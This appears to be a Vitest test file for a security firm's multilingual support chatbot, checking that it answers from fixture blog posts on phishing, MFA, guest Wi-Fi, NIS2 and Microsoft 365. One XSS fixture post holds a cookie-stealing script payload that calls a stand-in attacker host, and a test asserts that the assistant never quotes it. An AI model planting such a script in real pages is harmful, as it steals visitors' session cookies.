// The blog is knowledge: a visitor who asks for what a post says gets the part of the post that answers, with its
// link: the section a question points to, a list that ranks what is asked about, a post named by its subject.
import { describe, expect, it } from "vitest";
import { seedVocabulary } from "../../supabase/functions/chat-support/assistant/answer.ts";
import { type PublishedPost, postDocs, staticDocs } from "../../supabase/functions/chat-support/assistant/knowledge.ts";
import { SearchIndex } from "../../supabase/functions/chat-support/assistant/retrieval.ts";
import { Vocabulary } from "../../supabase/functions/chat-support/assistant/text.ts";
import { DEFAULT_SITE_IDENTITY } from "#shared/content/site.ts";
import { chatPlayer } from "./support/chat-play.ts";
import { MFA_POST, MFA_POST_LINES, post } from "./support/chat-posts.ts";


const POSTS: PublishedPost[] = [
  post("saadan-genkender-du-phishing-mails", "Sådan genkender du phishing-mails, før de koster dig penge", ["phishing", "svindelmails"], [
    "Phishing er stadig den mest almindelige vej ind i en lille virksomhed.",
    "",
    "## De fem klassiske tegn",
    "",
    "1. **Afsenderen** ligner en, du kender, men domænet er forkert.",
    "2. **Linket** fører et andet sted hen, end teksten siger.",
    "",
    "## Hvis uheldet er ude",
    "",
    "Har en medarbejder klikket og indtastet sin adgangskode, så handl med det samme:",
    "",
    "1. Skift adgangskoden på den berørte konto.",
    "2. Log alle sessioner ud (i Microsoft 365 kan administratoren gøre det centralt).",
    "3. Tjek, om der er oprettet regler, der videresender mail.",
  ]),
  post("trusselsbilledet-for-smaa-virksomheder-2026", "Trusselsbilledet for små virksomheder i efteråret 2026", ["phishing", "ransomware", "trusler"], [
    "Phishing, falske fakturaer og ransomware fylder mest i vores henvendelser i år.",
    "",
    "## Det ser vi mest",
    "",
    "Falske leverandørskift af kontonumre rammer bogholderiet, og QR-koder i mails rammer alle medarbejdere.",
  ]),
  post(MFA_POST[0], MFA_POST[1], [...MFA_POST[2]], [
    ...MFA_POST_LINES,
    "",
    "## Plan for en eftermiddag",
    "",
    "- [ ] Aktivér MFA for administratorkonti først",
    "- [ ] Aktivér MFA for alle brugere",
  ]),
  post("wifi-i-butikken-adskil-gaestenet", "Wi-Fi i butikken: Adskil gæstenettet fra kassesystemet", ["Wi-Fi", "gæstenet", "VLAN", "butik"], [
    "I mange butikker hænger der en seddel ved kassen med Wi-Fi-koden.",
    "",
    "## Del netværket op",
    "",
    "Løsningen er at opdele netværket i zoner, der ikke kan tale med hinanden:",
    "",
    "- Et gæstenet til kunderne, adskilt fra alt andet.",
    "- Et net til kassesystem og betalingsterminal.",
  ]),
];

const vocabulary = seedVocabulary(new Vocabulary());
/** A visitor's messages played over the site's pages and these posts only. */
function playerOver(posts: PublishedPost[]) {
  const index = new SearchIndex([...staticDocs(DEFAULT_SITE_IDENTITY), ...postDocs(posts)], vocabulary);
  return chatPlayer({ identity: DEFAULT_SITE_IDENTITY, userEmail: null, vocabulary, index: async () => index, today: { year: 2026, month: 11, day: 28 } });
}

const play = playerOver(POSTS);

describe("the blog answers what a visitor asks of it", () => {
  it("answers from the post a visitor names by its subject, with the section that answers", async () => {
    const reply = await play("i jeres blogindlæg om phishing, hvad skriver i man skal gøre hvis en medarbejder har klikket og tastet sin kode?");
    // The phishing post, though the threat report lists phishing among its keywords too.
    expect(reply.text).toContain("(/blog/saadan-genkender-du-phishing-mails)");
    expect(reply.text).toMatch(/Skift adgangskoden/);
    expect(reply.text).toMatch(/sessioner ud/);
  });

  it("quotes the list that ranks what is asked about, though its heading names none of the question's words", async () => {
    const reply = await play("har i skrevet noget om hvilken slags MFA der er bedst?");
    expect(reply.text).toContain("(/blog/mfa-den-billigste-sikkerhed)");
    expect(reply.text).toMatch(/Passkeys/);
    expect(reply.text).toMatch(/SMS-koder/);
    // A checklist is no answer to which kind is best.
    expect(reply.text).not.toMatch(/administratorkonti først/);
  });

  it("reads a Swedish question about an article as the Danish post it names", async () => {
    const reply = await play("Ni hade en artikel om gäst-wifi i butiker, vad var de viktigaste tipsen?");
    expect(reply.text).toContain("(/blog/wifi-i-butikken-adskil-gaestenet)");
    expect(reply.text).not.toMatch(/står ikke på siden/);
  });

  it("gives the post asked for, not a product feature that shares a word with it", async () => {
    const reply = await play("har i skrevet noget om wifi i butikken, vi har en lille cafe");
    expect(reply.text).toContain("(/blog/wifi-i-butikken-adskil-gaestenet)");
    expect(reply.text).not.toMatch(/kr\. pr\. medarbejder/);
  });

  it("does not take 'an article about it' as naming a post: the subject was told before", async () => {
    const reply = await play("i min frisørsalon bruger kunderne samme wifi som betalingsterminalen og min pc. i havde en artikel om det, hvad skal jeg gøre helt konkret");
    expect(reply.text).not.toContain("(/blog/trusselsbilledet-for-smaa-virksomheder-2026)");
  });
});

describe("Swedish and Norwegian practice questions", () => {
  it("reads 'tvåstegsverifiering' as two-factor and answers from the MFA post", async () => {
    const reply = await play("Vi har inte tvåstegsverifiering på våra mejlkonton, är det verkligen så viktigt?");
    expect(reply.text).toContain("(/blog/mfa-den-billigste-sikkerhed)");
  });
});

describe("what a reply quotes from a post", () => {
  const XSS = post("xss-naar-en-kommentar-bliver-et-angreb", "XSS: Når en kommentar bliver til et angreb", ["XSS", "webshop"], [
    "Cross-site scripting, forkortet XSS, opstår, når en hjemmeside viser brugerens input direkte som HTML.",
    "Fantastisk produkt! <script>fetch('https://angriber.example/stjael?c=' + document.cookie)</script>",
    "Hvis siden indsætter anmeldelsen som HTML, kører scriptet i browseren hos alle, der læser anmeldelsen.",
  ]);
  const playXss = playerOver([XSS]);

  it("quotes no line of code as a sentence", async () => {
    const reply = await playXss("har i skrevet noget om xss på webshoppen?");
    expect(reply.text).toContain("(/blog/xss-naar-en-kommentar-bliver-et-angreb)");
    expect(reply.text).not.toMatch(/<script|document\.cookie/);
    // Each sentence once, though the excerpt repeats the lead.
    expect(reply.text.match(/opstår, når en hjemmeside/g)).toHaveLength(1);
  });
});

describe("a post in the other language", () => {
  const M365 = post("five-microsoft-365-settings-to-change", "Five Microsoft 365 security settings every small business should change", ["Microsoft 365", "settings"], [
    "These five changes take an afternoon.",
    "",
    "## 1. Turn on security defaults or Conditional Access",
    "Multi-factor authentication for everyone.",
    "## 2. Block legacy authentication",
    "Old protocols skip MFA.",
    "## 3. Stop automatic forwarding to external addresses",
    "Forwarding rules leak mail.",
  ]);
  const playM365 = playerOver([M365]);

  it("links an English post for a Swedish question in Danish words, without quoting English", async () => {
    const reply = await playM365("Vilka inställningar i Microsoft 365 är viktigast att ändra?");
    expect(reply.text).toMatch(/skrevet på engelsk: \[læs indlægget\]\(\/blog\/five-microsoft-365-settings-to-change\)/);
    expect(reply.text).not.toMatch(/Turn on|security defaults/);
  });

  it("a post named by its subject ('your Microsoft 365 post') is quoted for what is asked of it, not for its name", async () => {
    const reply = await playM365("In your Microsoft 365 post, what do you recommend about forwarding?");
    expect(reply.text).toMatch(/Forwarding rules leak mail/);
    expect(reply.text).not.toMatch(/These five changes take an afternoon/);
  });
});

describe("what we do is not answered by a post", () => {
  it("hands over 'krypterer I vores data?' rather than quote the backup post", async () => {
    const reply = await play("krypterer I vores data?");
    expect(reply.text).not.toContain("/blog/");
  });
});

describe("which part of a post answers", () => {
  it("answers 'hvad er MFA-træthed?' with the sentence that names it, not the list of methods", async () => {
    const MFA = post("mfa-den-billigste-sikkerhed", "Multifaktor-godkendelse: Den billigste sikkerhed, du kan købe", ["MFA"], [
      "Slå multifaktor-godkendelse (MFA) til på alle konti.",
      "",
      "## Vælg den rigtige metode",
      "",
      "Ikke alle former for MFA er lige stærke:",
      "",
      "1. **Passkeys eller sikkerhedsnøgler** (FIDO2): stærkest, kan ikke fiskes.",
      "2. **SMS-koder**: bedre end intet, men sårbare over for SIM-svindel.",
      "",
      "Pas på \"MFA-træthed\": angribere sender mange login-anmodninger i håb om, at brugeren til sidst trykker godkend.",
    ]);
    const playMfa = playerOver([MFA]);
    const reply = await playMfa("hvad er MFA-træthed?");
    expect(reply.text).toMatch(/angribere sender mange login-anmodninger/);
    // A list's lead-in keeps its colon.
    expect(reply.text).not.toMatch(/:\./);
  });

  it("answers how to avoid paying fake invoices as a question of fraud, not of how we invoice", async () => {
    const reply = await play("hvordan undgår vi at betale falske fakturaer?");
    expect(reply.text).not.toMatch(/betalingskort via Stripe/);
  });

  it("answers the five signs of phishing from the phishing post", async () => {
    const reply = await play("hvad er de fem tegn på phishing?");
    expect(reply.text).toContain("(/blog/saadan-genkender-du-phishing-mails)");
  });
});

describe("questions of practice in the visitor's own words", () => {
  const NIS2 = post("nis2-for-smaa-virksomheder", "NIS2 for små virksomheder: Gælder det dig?", ["NIS2", "leverandørkæde"], [
    "NIS2 er EU's opdaterede direktiv om net- og informationssikkerhed.",
    "",
    "Det korte svar er: **sandsynligvis ikke direkte, men sandsynligvis indirekte.**",
    "",
    "## Hvorfor det alligevel rammer dig",
    "",
    "En virksomhed, der er omfattet, skal styre risikoen i sin leverandørkæde, så din kunde begynder at sende spørgeskemaer.",
  ]);
  const playNis2 = playerOver([...POSTS, NIS2]);

  it("answers 'er NIS2 noget vi skal tage os af?' with a headcount from the NIS2 post, not the price", async () => {
    const reply = await playNis2("er NIS2 noget vi skal tage os af? vi er 12 ansatte i et rengøringsfirma i Odense");
    expect(reply.text).toContain("(/blog/nis2-for-smaa-virksomheder)");
    expect(reply.text).toMatch(/sandsynligvis ikke direkte/);
  });

  it("answers a Norwegian 'which is best, SMS or an app' from the MFA post, though 9 people are named", async () => {
    const reply = await play("hva er best av sms-kode og autentiseringsapp for totrinnspålogging? skal rulle det ut til 9 stk");
    expect(reply.text).toContain("(/blog/mfa-den-billigste-sikkerhed)");
    expect(reply.text).not.toMatch(/kr\./);
  });
});

describe("what a threat is", () => {
  it("answers 'hvad er phishing egentlig?' from the phishing post, not with the feature that stops it", async () => {
    const reply = await play("hvad er phishing egentlig?");
    expect(reply.text).toContain("(/blog/saadan-genkender-du-phishing-mails)");
    expect(reply.text).not.toMatch(/^Email Security:/);
  });
});
